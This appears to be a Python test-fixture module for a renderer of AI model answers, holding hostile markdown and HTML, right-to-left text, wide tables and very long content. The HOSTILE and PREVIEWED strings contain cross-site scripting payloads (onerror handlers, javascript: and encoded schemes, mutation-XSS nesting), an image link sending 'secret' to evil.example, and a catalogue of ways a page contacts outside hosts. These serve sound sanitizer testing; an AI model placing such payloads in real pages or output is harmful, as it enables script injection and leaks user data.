"""What models write in the tests of the page: hostile, long, and hard to lay out."""

from __future__ import annotations

import os

DEEP = ">" * 10_000
HOSTILE = f"""<script>window.hit = 1</script>

<img src=x onerror="window.hit=1"> <svg onload="window.hit=1"><animate attributeName=href></svg>

![picture](https://evil.example/p.png?q=secret) [click](javascript:window.hit=1) [data](data:text/html,<script>)

[good](https://example.org/a) <javascript:alert(1)> <iframe srcdoc="<script>parent.hit=1</script>"></iframe>

turned \u202eround \x1b[31mred\x1b[0m **half

$$x^2$$ $$\\href{{javascript:alert(1)}}{{y}}$$ $$\\includegraphics{{https://evil.example/p.png}}$$

{DEEP} deep

```python
def f(): return "<b>"
```

{"a" * 60_000}

[ref][x] &#106;avascript:alert(1) [entity](&#106;avascript:hit) [tab](java\tscript:hit) [vb](vbscript:hit) [f](file:///etc)

{"[" * 2000}{"**" * 2000}{"`" * 40_000}

{"- " * 5000} list

| a | b
|--|--
| <img src=x onerror=hit=1> | half

> quote **without an end

~~~html
<script>window.hit = 1</script>
[x]: javascript:hit
"""
PREVIEWED = """```html
<!doctype html>
<html lang="en" manifest="ELSEWHERE/manifest">
<head>
<title>A page</title>
<meta http-equiv="refresh" content="0; url=ELSEWHERE/refresh">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; report-uri ELSEWHERE/report">
<base href="ELSEWHERE/">
<link rel="preconnect" href="ELSEWHERE"><link rel="dns-prefetch" href="//NAME">
<link rel="prefetch" href="ELSEWHERE/prefetch"><link rel="preload" as="image" href="ELSEWHERE/preload">
<link rel="modulepreload" href="ELSEWHERE/module"><link rel="stylesheet" href="ELSEWHERE/style">
<link rel="icon" href="ELSEWHERE/icon"><link rel="manifest" href="ELSEWHERE/manifest">
<script type="speculationrules">{"prerender": [{"urls": ["ELSEWHERE/rules"]}]}</script>
<style>
@import "ELSEWHERE/import"; @import url(ELSEWHERE/import2);
@font-face { font-family: f; src: url(ELSEWHERE/font); }
h1 { color: rgb(1, 2, 3); font-family: f; background: url(ELSEWHERE/background); cursor: url(ELSEWHERE/cursor), auto; }
p { list-style: url(ELSEWHERE/list); content: url(ELSEWHERE/content); mask: url(ELSEWHERE/mask#m); }
p::before { content: image-set("ELSEWHERE/set" 1x); } b { filter: url(ELSEWHERE/filter#f); }
@namespace svg url(ELSEWHERE/namespace);
</style>
</head>
<body background="ELSEWHERE/body" onload="reach('onload')">
<h1>A page</h1><p>text</p><b>bold</b><a id="inner" href="#inner">inside</a>
<a href="ELSEWHERE/link" ping="ELSEWHERE/ping" target="_top">link</a> <a href="//NAME/">name</a>
<a href="javascript:reach('link')">script</a> <a href="data:text/html,<script>opener.hit=1</script>">data</a>
<map name="m"><area href="ELSEWHERE/area" shape="default"></map>
<img alt="1" usemap="#m" src="ELSEWHERE/image" srcset="ELSEWHERE/set 2x" lowsrc="ELSEWHERE/low"
longdesc="ELSEWHERE/long">
<img alt="2" src="x" onerror="reach('onerror')"><img alt="5" src="//NAME/image">
<picture><source srcset="ELSEWHERE/source"><img alt="3"></picture>
<video src="ELSEWHERE/video" poster="ELSEWHERE/poster" autoplay></video><audio src="ELSEWHERE/audio" autoplay></audio>
<track src="ELSEWHERE/track"><input type="image" alt="4" src="ELSEWHERE/input"><embed src="ELSEWHERE/embed">
<object data="ELSEWHERE/object"><param name="movie" value="ELSEWHERE/param"></object>
<applet archive="ELSEWHERE/a"></applet>
<iframe src="ELSEWHERE/iframe"></iframe><iframe srcdoc="<link rel=preconnect href=ELSEWHERE>"></iframe>
<frameset><frame src="ELSEWHERE/frame"></frameset><fencedframe src="ELSEWHERE/fenced"></fencedframe>
<form id="f" action="ELSEWHERE/form" method="post"><input name="q" autofocus onfocus="this.form.submit()">
<button formaction="ELSEWHERE/button">send</button></form><button form="f" formaction="ELSEWHERE/other">other</button>
<svg width="9" height="9"><image href="ELSEWHERE/svg"/><use href="ELSEWHERE/use#u"/><feImage href="ELSEWHERE/fe"/>
<a href="ELSEWHERE/svglink"><text y="9">t</text></a><script href="ELSEWHERE/svgscript"></script>
<animate attributeName="href" to="ELSEWHERE/animate" begin="0s"/><set attributeName="href" to="ELSEWHERE/set"/>
<foreignObject><iframe src="ELSEWHERE/foreign"></iframe></foreignObject>
<style>@import "ELSEWHERE/svgstyle";</style></svg>
<math><mi href="ELSEWHERE/math">x</mi>
<annotation-xml encoding="text/html"><img src="ELSEWHERE/mathimage"></annotation-xml></math>
<template shadowrootmode="open"><link rel="preconnect" href="ELSEWHERE"></template>
<noscript><p title="</noscript><img src=ELSEWHERE/noscript>"></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src="ELSEWHERE/mutated" onerror="reach('mutated')">
<table background="ELSEWHERE/table"><tr><td background="ELSEWHERE/td">cell</td></tr></table>
<blockquote cite="ELSEWHERE/cite">q</blockquote><p style="background: url(ELSEWHERE/inline)">styled</p>
<script src="ELSEWHERE/script"></script>
<script>
const reach = (what) => {
  document.documentElement.dataset.ran = what;
  fetch("ELSEWHERE/fetch").catch(() => 0); fetch("http://NAME/fetch").catch(() => 0);
  navigator.sendBeacon("ELSEWHERE/beacon");
  new WebSocket("ELSEWHERE/socket".replace("http", "ws")); new EventSource("ELSEWHERE/events");
  document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: "ELSEWHERE" }));
  const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:PLACE" }] });
  call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));
  window.open("ELSEWHERE/open"); top.location = "ELSEWHERE/top";
};
reach("script");
</script>
</body></html>
```
"""
"""The ways from markup, styles and scripts to another host: a request, a connection, or the look for its name."""
RIGHT_TO_LEFT = (
    "مرحبا، هذا **نص** طويل بما يكفي ليملأ السطر كله.\n\n```python\ndef f(): return 'x'\n```\n\n"
    + "שלום עולם " * 40
    + "[^1]\n\n> اقتباس\n\n- واحد\n\n- اثنان\n\n| `x` | ب |\n|---|---|\n| 1 | مرحبا |\n\n"
    + "<details open>\n<summary>`f` سؤال</summary>\n\nجواب\n\n</details>\n\n[^1]: ملاحظة\n"
)
TABLE = """### Prices

| Component | Temperature | Price | Manufacturer | Remarks about the delivery |
|---|--:|--:|---|---|
| Compressor | 1,250.50 °C | 1500 € | Donaudampfschifffahrt | `overflow-wrap` and <br>two lines, as models write them |
| Verdichter | 99.95 % | 12,499.99 € | Elektrizitätswerk | see https://example.org/a/very/long/path/that/goes/on |

#### Details

| Component | Price |
|---|---|
| Compressor | 500 € |
"""
PARTS = """## Part {n}

Some **bold** words, `code` and $x_{n}^2$, as in [a link](https://example.org/{n}).

- one
  - two with *emphasis*
- three

| a | b | c |
|---|--:|---|
| {n} | 12.5 | `x` |
| {n} | 13.5 | y |

$$
x = {n}
- y
$$

```python
def f{n}(x: int) -> str:
    return f"{{x}}"  # {n}
```

"""
GROWING = {
    "parts": "".join(PARTS.replace("{n}", str(n)) for n in range(int(os.environ.get("PARTS", "150")))),
    "list": "".join(f"- item **{n}** with `words`\n" for n in range(1000)),
    "table": "| a | b |\n|---|---|\n" + "".join(f"| {n} | words of {n} |\n" for n in range(1000)),
    "code": "```python\n" + "".join(f"def f{n}(x: int) -> int:\n    return x + {n}\n" for n in range(1100)) + "```\n",
}
"""Long answers, and what is long in them."""
FOLDED = "Before it.\n\n<details>\n<summary>How **it** works</summary>\n\n{}\n</details>\n\nAfter it.\n".format(
    "".join(f"- Step {n}\n" for n in range(10))
)
ENDS = (
    "one\n\nthe end", "- one\n- the end", "- one\n  - two\n- three\n  - the end", "- one\n\n- two\n\n  the end",
    "~~~python\nthe_end()\n~~~", "| one |\n|---|\n| the end |", "## the end", "- one\n  - two\n\n\nthe end",
)  # fmt: skip
"""Each stops where a caret has to stand."""
SPOKEN = "Hello **bold** world.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\n" + " ".join(
    f"This is sentence {n} of a long answer." for n in range(12)
)
